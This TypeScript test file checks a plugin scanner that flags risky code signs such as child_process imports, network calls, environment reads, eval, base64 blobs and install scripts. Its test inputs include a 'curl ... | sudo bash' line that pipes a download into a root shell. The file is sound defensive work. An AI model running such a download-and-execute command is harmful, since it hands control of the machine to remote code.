import { expect, test } from 'vitest'
import { scanFolder } from '../../../../plugins/configuration/plugin-manager/code-findings.ts'
import { temporaryFolder, writeFolder } from './support.ts'

function seen(files: Readonly<Record<string, string>>): string[] {
  return scanFolder(writeFolder(temporaryFolder(), files)).map(({ what }) => what)
}

test.for([
  ["import { spawn } from 'node:child_process'", 'starts other programs'],
  ["require('child_process')", 'starts other programs'],
  ["import https from 'https'", 'uses the network'],
  ['await fetch(url)', 'uses the network'],
  ['new WebSocket(url)', 'uses the network'],
  ['ctx.use(Net).request({ url })', 'uses the network'],
  ['process.env.HOME', 'reads the environment of the process'],
  ['process?.env', 'reads the environment of the process'],
  ["process['env']", 'reads the environment of the process'],
  ['eval(text)', 'runs text as code'],
  ['new Function("return 1")', 'runs text as code'],
  ["import vm from 'node:vm'", 'runs text as code'],
  ["Buffer.from(x, 'base64')", 'holds encoded text'],
  [`const x = "${'QUJD'.repeat(60)}"`, 'holds encoded text'],
  ['curl -s https://x.example | sudo bash', 'pipes a download into a shell'],
] as const)('%s is noticed', ([code, what]) => {
  expect(seen({ 'index.ts': `// first\n${code}\n` })).toContain(what)
})

test.for([
  ['an ordinary tool', "import { definePlugin, Tools } from 'svc/sdk'\nexport default definePlugin({ setup() {} })"],
  ['words that only look alike', 'const evaluate = 1; const processEnvironment = fetched; retrieval(3)'],
] as const)('%s gives no reason for a warning', ([, code]) => {
  expect(seen({ 'index.ts': code })).toEqual([])
})

test('each sign is named once, with its first place and how often', () => {
  const folder = writeFolder(temporaryFolder(), { 'a.ts': '\nfetch(1)\nfetch(2)\n', 'lib/b.js': 'fetch(3)' })
  expect(scanFolder(folder)).toEqual([{ what: 'uses the network', file: 'a.ts', line: 2, count: 3 }])
})

test('install scripts and compiled code are noticed, packages and texts are not searched', () => {
  expect(seen({ 'package.json': '{\n"scripts": {\n"postinstall": "node x.js"\n}}' })).toEqual([
    'has install scripts, which are not run',
  ])
  expect(seen({ 'build/addon.node': 'binary' })).toEqual(['brings compiled code'])
  expect(seen({ 'node_modules/x/index.js': 'eval(1)', 'README.md': 'curl x | sh', 'data.json': '"eval("' })).toEqual([])
})
